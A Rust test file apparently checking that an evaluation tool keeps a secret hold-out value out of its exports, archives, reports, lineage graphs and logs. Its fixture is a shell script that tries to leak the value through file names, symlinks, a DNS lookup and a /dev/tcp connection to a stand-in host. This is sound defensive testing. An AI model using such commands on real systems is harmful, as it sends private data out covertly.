//! What anybody can get of an evaluation of hold-out data: every document, page and list that is made of a run.

use std::fs;

use crate::world::{World, contents};

/// In the data alone, so that only a job that read them can name it.
const SECRET: &str = "patient4711";

/// Writes what it reads wherever a job chooses a name: in files, paths, links, arguments, hosts, sockets and code.
const JOB: &str = r#"
s=$(sed -n 2p /data/test/test.csv)
cp /data/test/test.csv "/out/$s.csv"; mkdir "/out/$s"; ln -s "$s" /out/link; ln -s a "/work/$s"
printf '%s' "$s" > /work/changed; rm /work/code.txt; mkdir "/work/dir-$s"; echo "$s" > "/work/dir-$s/file"
mkfifo "/out/fifo-$s"
cat "/etc/$s" "/data/test/$s"; /bin/ls "$s"; "/usr/bin/$s"
getent hosts "$s.example.org"
bash -c "exec 3<>/dev/tcp/$s.example.org/443"
echo '{"accuracy":0.5}' > /out/metrics.jsonl
"#;

const FORMATS: [&str; 6] = ["slsa", "runtime-trace", "in-toto", "cyclonedx", "ro-crate", "openlineage"];

/// A hold-out, and the code that looks at it.
fn world() -> World {
    let world = World::new();
    world.write("data/test.csv", format!("name\n{SECRET}\n"));
    world.ok(&["dataset", "add", "data/test.csv", "--name", "digits-test", "--role", "holdout"]);
    world.write("data/plain.csv", "name\nnobody\n");
    world.write("code/code.txt", "1\n");
    world.write("code/evaluate.sh", format!("exec 2>/dev/null >/dev/null\n{JOB}exit 0\n"));
    world
}

/// Everything that is made of the newest run, by what made it.
fn made(world: &World) -> Vec<(String, String)> {
    let mut made = Vec::new();
    let mut files = |what: &str, place: &str| {
        for (path, bytes, _) in contents(&world.path(place)) {
            made.push((what.to_owned(), format!("{}\n{}", path.display(), String::from_utf8_lossy(&bytes))));
        }
    };
    for format in FORMATS {
        let to = format!("made/{format}");
        fs::create_dir_all(world.path("made")).unwrap();
        world.ok(&["attest", "export", "latest", "--as", format, "--out", world.path(&to).to_str().unwrap()]);
    }
    files("attest export", "made");
    world.ok(&["export", "latest", "--to", world.path("exported").to_str().unwrap()]);
    files("export", "exported");
    let place = world.path("archive");
    fs::create_dir(&place).unwrap();
    world.ok(&["archive", "run:latest", place.to_str().unwrap()]);
    files("archive", "archive");
    for page in ["report.html", "report.md"] {
        world.ok(&["project", "report", "--output", world.path(page).to_str().unwrap()]);
        made.push((page.to_owned(), fs::read_to_string(world.path(page)).unwrap()));
    }
    for picture in ["--html", "--svg"] {
        let file = world.path(picture);
        world.ok(&["lineage", "run:latest", picture, file.to_str().unwrap()]);
        made.push((format!("lineage {picture}"), fs::read_to_string(file).unwrap()));
    }
    let commands: &[&[&str]] = &[
        &["show", "latest"],
        &["show", "latest", "--json"],
        &["logs", "latest"],
        &["logs", "latest", "--stderr"],
        &["metrics", "latest"],
        &["runs"],
        &["runs", "--json"],
        &["lineage", "run:latest"],
        &["lineage", "run:latest", "--labels"],
        &["lineage", "run:latest", "--json"],
        &["diff", "latest", "latest"],
        &["diff", "latest", "latest", "--json"],
        &["policy", "explain", "latest"],
        &["policy", "explain", "latest", "--json"],
        &["policy", "suggest"],
        &["policy", "suggest", "--json"],
        &["attest", "show", "latest"],
        &["attest", "show", "latest", "--json"],
        &["lineage", "run:latest", "--dot"],
        &["lineage", "run:latest", "--csv"],
        &["project", "report", "--json"],
        &["ledger", "show"],
        &["ledger", "show", "--json"],
    ];
    for command in commands {
        let output = world.output(command);
        let said = [output.stdout.as_slice(), &output.stderr].concat();
        made.push((command.join(" "), String::from_utf8_lossy(&said).into_owned()));
    }
    made
}

fn evaluate(world: &World, more: &[&str]) {
    let code = world.path("project/code");
    let code = ["--code", code.to_str().unwrap(), "--data", "test=digits-test"];
    let run = [&["run"], code.as_slice(), more, &["--", "bash", "evaluate.sh"]].concat();
    let output = world.output(&run);
    let said = [output.stdout.as_slice(), &output.stderr].concat();
    let said = String::from_utf8_lossy(&said);
    assert!(output.status.success(), "{said}");
    assert_eq!(said.contains(SECRET), !more.contains(&"metrics"), "{said}");
}

#[test]
fn nothing_that_is_made_of_an_evaluation_has_what_its_job_chose() {
    let world = world();
    evaluate(&world, &["--keep", "metrics", "--explain"]);
    for (what, text) in made(&world) {
        assert!(!text.contains(SECRET), "{what}: {text}");
    }
}

#[test]
fn the_same_job_without_the_wall_is_in_all_of_it() {
    let world = world();
    world.ok(&["dataset", "unlabel", "digits-test", "holdout", "--reason", "the twin of an evaluation"]);
    evaluate(&world, &["--explain"]);
    let made = made(&world);
    for what in
        ["attest export", "export", "archive", "show latest", "show latest --json", "lineage run:latest"]
    {
        assert!(made.iter().any(|(by, text)| by == what && text.contains(SECRET)), "{what}");
    }
}
